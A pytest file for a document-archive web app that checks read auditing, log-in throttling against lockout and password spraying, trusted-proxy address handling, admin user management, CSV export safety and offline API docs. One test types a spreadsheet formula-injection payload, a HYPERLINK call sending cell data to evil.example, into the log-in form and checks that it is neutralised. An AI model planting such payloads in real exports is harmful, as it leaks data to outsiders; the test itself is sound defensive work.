"""Every read is on the record, and log-in throttling cannot be turned against a user, through
the real app: one event per kind of read (an image once per page and session), the auditor's
event view filtered by actor, kind and record; per-account backoff, per-address limits, the
client address behind a trusted proxy, an admin's unlock; user management for admins; CSV
cells a spreadsheet would run are neutralised; no server paths; the API documented offline."""

from __future__ import annotations

import csv
import io
import warnings
from urllib.parse import quote

import pytest
from sqlalchemy import select

from dangan.archive.db import Database
from dangan.archive.models import Event
from tests.web.conftest import PASSWORD, csrf_from


def client_for(app, forwarded_for: str | None = None):
    from fastapi.testclient import TestClient

    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        return TestClient(
            app, headers={"Accept-Language": "en", **({"X-Forwarded-For": forwarded_for} if forwarded_for else {})}
        )


def try_login(c, name: str, password: str):
    token = csrf_from(c.get("/login").text)
    return c.post("/login", data={"name": name, "password": password, "csrf": token}, follow_redirects=False)


def events_after(web_archive, seq: int) -> list[Event]:
    db = Database(web_archive["home"].db_url)
    try:
        with db.session() as s:
            return list(s.scalars(select(Event).where(Event.seq > seq).order_by(Event.seq)))
    finally:
        db.dispose()


def head(web_archive) -> int:
    db = Database(web_archive["home"].db_url)
    try:
        with db.session() as s:
            return s.scalar(select(Event.seq).order_by(Event.seq.desc()).limit(1)) or 0
    finally:
        db.dispose()


def add_user(web_archive, name: str, role: str = "staff") -> None:
    from dangan.archive.users import add_user as add

    db = Database(web_archive["home"].db_url)
    with db.session() as s:
        add(s, name, PASSWORD, role, actor="test")
    db.dispose()


@pytest.fixture(scope="module")
def proxied_app(web_archive):
    """The app behind a TLS proxy: the test client stands for the proxy."""
    from dangan.web import create_app

    return create_app(web_archive["home"], secret_key="test", secure_cookies=False, trusted_proxies="testclient")


# --- every read is an event -------------------------------------------------------------------------


def test_each_kind_of_read_is_one_event_and_an_image_once_per_page_and_session(app, web_archive, login):
    number = web_archive["number"]
    before = head(web_archive)
    stranger = client_for(app)
    assert try_login(stranger, "staff", "not the password").status_code == 401
    staff = login("staff")
    view = staff.get(f"/api/records/{quote(number)}").json()
    page_id = view["documents"][0]["pages"][0]["id"]
    staff.get(f"/pages/{page_id}")
    for url in (f"/pages/{page_id}/image", f"/pages/{page_id}/image?size=thumb", f"/pages/{page_id}/image"):
        assert staff.get(url).status_code == 200  # the viewer's tiles and the record's thumbnail
    staff.get("/search", params={"q": "减容"})
    auditor = login("auditor")
    auditor.get("/reports/completeness.csv")
    auditor.get("/audit/events.csv")
    operator = login("operator")
    operator.get(f"/records/{quote(number)}/labels/folder.pdf")
    staff.post("/logout", data={"csrf": staff.csrf})
    kinds = [(e.type, e.actor, (e.detail or {}).get("what")) for e in events_after(web_archive, before)]
    assert kinds == [
        ("log-in failed", "staff", None),
        ("log-in", "staff", None),
        ("access", "staff", "show"),
        ("access", "staff", "page"),
        ("access", "staff", "image"),  # one, for three image requests of the page
        ("search", "staff", None),
        ("log-in", "auditor", None),
        ("export", "auditor", "report"),
        ("export", "auditor", "event log"),
        ("log-in", "operator", None),
        ("label print", "operator", None),
        ("log-out", "staff", None),
    ]
    new = events_after(web_archive, before)
    assert new[0].detail["reason"] == "wrong password" and new[5].detail["query"] == "减容"
    # a new session is a new reader: its first look at the page is on the record again
    again = login("staff")
    again.get(f"/pages/{page_id}/image?size=thumb")
    assert [(e.type, (e.detail or {}).get("what")) for e in events_after(web_archive, before)][-1] == (
        "access",
        "image",
    )


def test_the_auditor_filters_the_event_log_by_actor_kind_and_record(web_archive, login):
    number = web_archive["number"]
    add_user(web_archive, "reader2")
    reader = login("reader2")
    reader.get(f"/api/records/{quote(number)}")
    reader.get("/api/search", params={"q": "供用电合同"})
    auditor = login("auditor")
    log = auditor.get("/api/events", params={"actor": "reader2", "type": "access", "record": number}).json()
    assert log["total"] == 1 and log["events"][0]["detail"]["what"] == "show"
    searches = auditor.get("/api/events", params={"actor": "reader2", "type": "search"}).json()["events"]
    assert [e["detail"]["query"] for e in searches] == ["供用电合同"]
    about_record = auditor.get("/api/events", params={"record": number, "per_page": 1000}).json()["events"]
    assert about_record and {"registration", "access"} <= {e["type"] for e in about_record}
    assert all(e["object_id"] == number or e["object_type"] == "page" for e in about_record)
    html = auditor.get("/audit/events", params={"actor": "reader2", "record": number}).text
    assert 'name="record"' in html and "reader2" in html and "search" not in html.split("<table", 1)[1]
    assert "log-in" in auditor.get("/api/events").json()["types"]


# --- throttling a stranger cannot turn against a user --------------------------------------------------


def test_a_stranger_cannot_lock_a_user_out_and_an_admin_unlocks_new_browsers(proxied_app, web_archive, login):
    from dangan.archive.login import ACCOUNT_FREE_FAILURES

    add_user(web_archive, "victim")
    own = login("victim", client_app=proxied_app, headers={"X-Forwarded-For": "10.20.0.2"})
    own.post("/logout", data={"csrf": own.csrf})  # her browser keeps its known-device cookie
    stranger = client_for(proxied_app, "203.0.113.66")
    for i in range(ACCOUNT_FREE_FAILURES):
        assert try_login(stranger, "victim", f"guess {i}").status_code == 401
    fresh = client_for(proxied_app, "10.20.0.3")  # a browser she never used: the backoff applies
    refused = try_login(fresh, "victim", PASSWORD)
    assert refused.status_code == 429 and "Too many failed log-ins for this user" in refused.text
    assert 0 < int(refused.headers["retry-after"]) <= 300  # a backoff with a cap, not a long lockout
    assert try_login(stranger, "victim", "guess 6").status_code == 429
    assert try_login(own, "victim", PASSWORD).status_code == 303  # her own browser: not slowed down
    admin = login("admin")
    row = admin.get("/admin/users").text.split('id="user-victim"', 1)[1].split("</tr>", 1)[0]
    assert f"<td>{ACCOUNT_FREE_FAILURES} " in row
    assert admin.post("/admin/users/victim/unlock", data={"csrf": admin.csrf}).status_code == 200
    row = admin.get("/admin/users").text.split('id="user-victim"', 1)[1].split("</tr>", 1)[0]
    assert "<td>0</td>" in row
    assert try_login(fresh, "victim", PASSWORD).status_code == 303


def test_one_password_tried_across_many_names_is_stopped_per_address(proxied_app, web_archive):
    from dangan.archive.login import ADDRESS_FAILURES

    sprayer = client_for(proxied_app, "198.51.100.9")
    for i in range(ADDRESS_FAILURES):
        assert try_login(sprayer, f"spray{i}", "Summer2026!").status_code == 401
    blocked = try_login(sprayer, "staff", PASSWORD)
    assert blocked.status_code == 429 and "from this address" in blocked.text
    assert try_login(client_for(proxied_app, "198.51.100.10"), "staff", PASSWORD).status_code == 303


def test_the_client_address_comes_from_a_trusted_proxy_only(app, proxied_app, web_archive):
    before = head(web_archive)
    # behind the proxy: a client cannot hide behind an address it puts in front of the real one
    try_login(client_for(proxied_app, "1.2.3.4, 203.0.113.77"), "nobody-a", "x")
    # without a trusted proxy, X-Forwarded-For is anybody's word and is ignored
    try_login(client_for(app, "203.0.113.78"), "nobody-b", "x")
    clients = [e.detail["client"] for e in events_after(web_archive, before) if e.type == "log-in failed"]
    assert clients == ["203.0.113.77", "testclient"]


# --- user management for admins ----------------------------------------------------------------------


def test_an_admin_manages_users_in_the_web_app(web_archive, login, app):
    admin = login("admin")
    assert login("staff").get("/admin/users").status_code == 403
    r = admin.post("/admin/users", data={"csrf": admin.csrf, "name": "newbie", "role": "staff"})
    assert r.status_code == 200 and 'id="temporary-password"' in r.text
    temporary = r.text.split('id="temporary-password"', 1)[1].split('<code class="mono">', 1)[1].split("<", 1)[0]
    newbie = client_for(app)
    first = try_login(newbie, "newbie", temporary)
    assert first.status_code == 303 and first.headers["location"] == "/account/password"
    assert newbie.get("/api/search", params={"q": "减容"}).status_code == 403  # own password first
    form = newbie.get("/account/password").text
    assert 'id="must-change"' in form
    r = newbie.post(
        "/account/password",
        data={"csrf": csrf_from(form), "current": temporary, "new": "my own passphrase", "repeat": "my own passphrase"},
    )
    assert r.status_code == 200 and "Password changed" in r.text
    assert try_login(newbie, "newbie", temporary).status_code == 401
    assert try_login(newbie, "newbie", "my own passphrase").status_code == 303
    assert newbie.get("/api/search", params={"q": "减容"}).status_code == 200

    def act(action: str, **data) -> int:
        return admin.post(f"/admin/users/newbie/{action}", data={"csrf": admin.csrf, **data}).status_code

    assert newbie.get("/audit/events").status_code == 403
    assert act("role", role="auditor") == 200
    assert newbie.get("/audit/events").status_code == 200  # from the next click on
    assert act("disable") == 200 and newbie.get("/api/me").status_code == 401
    assert try_login(newbie, "newbie", "my own passphrase").status_code == 401
    assert act("enable") == 200 and try_login(newbie, "newbie", "my own passphrase").status_code == 303
    r = admin.post("/admin/users/newbie/reset-password", data={"csrf": admin.csrf})
    assert 'id="temporary-password"' in r.text and newbie.get("/api/me").status_code == 401
    # an admin cannot lock themselves out
    r = admin.post("/admin/users/admin/disable", data={"csrf": admin.csrf})
    assert r.status_code == 400 and "lock yourself out" in r.text
    whats = [
        (e.detail or {}).get("what")
        for e in events_after(web_archive, 0)
        if e.type == "user administration" and e.object_id == "newbie"
    ]
    assert whats == ["added", "password changed", "role changed", "disabled", "enabled", "password reset"]


# --- CSV a spreadsheet will not run, no server paths ---------------------------------------------------


def test_a_formula_typed_into_the_log_in_form_is_neutralised_in_the_event_log_csv(app, login):
    formula = '=HYPERLINK("http://evil.example/?"&A1,"点击查看")'
    try_login(client_for(app), formula, "whatever")
    text = login("auditor").get("/audit/events.csv").content.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text)))
    cells = [cell for row in rows for cell in row if "HYPERLINK" in cell]
    assert cells and all(c.startswith("'=") or not c.startswith(("=", "+", "-", "@")) for c in cells)
    assert any(c == "'" + formula[:64] for c in cells)  # the name as typed (cut to 64), made inert


def test_quarantine_reasons_and_errors_show_no_server_paths(web_archive, login):
    operator = login("operator")
    rows = operator.get("/api/quarantine").json()
    assert rows and all(str(web_archive["home"].root) not in r["reason"] and "/tmp/" not in r["reason"] for r in rows)
    assert str(web_archive["home"].root) not in operator.get("/quarantine").text


# --- the API, documented offline -------------------------------------------------------------------------


def test_swagger_ui_and_redoc_load_their_assets_from_this_server(app):
    c = client_for(app)
    for url in ("/api/docs", "/api/redoc"):
        html = c.get(url).text
        assert "cdn" not in html.lower() and "https://" not in html
        assets = [part.split('"', 1)[0] for part in html.split('src="')[1:] + html.split('href="')[1:]]
        assert assets
        for asset in assets:
            if asset.startswith("/"):
                assert c.get(asset).status_code == 200, asset


def test_the_openapi_document_types_every_response(app):
    spec = client_for(app).get("/api/openapi.json").json()
    for path, methods in spec["paths"].items():
        for method, op in methods.items():
            ok = op["responses"].get("200") or op["responses"].get("202")
            schema = ok["content"]["application/json"]["schema"]
            assert "$ref" in schema or "$ref" in schema.get("items", {}), (method, path, schema)
    hit = spec["components"]["schemas"]["Hit"]["properties"]
    assert {"page_id", "snippet", "boxes"} <= set(hit)
    assert "403" in spec["paths"]["/api/search"]["get"]["responses"]
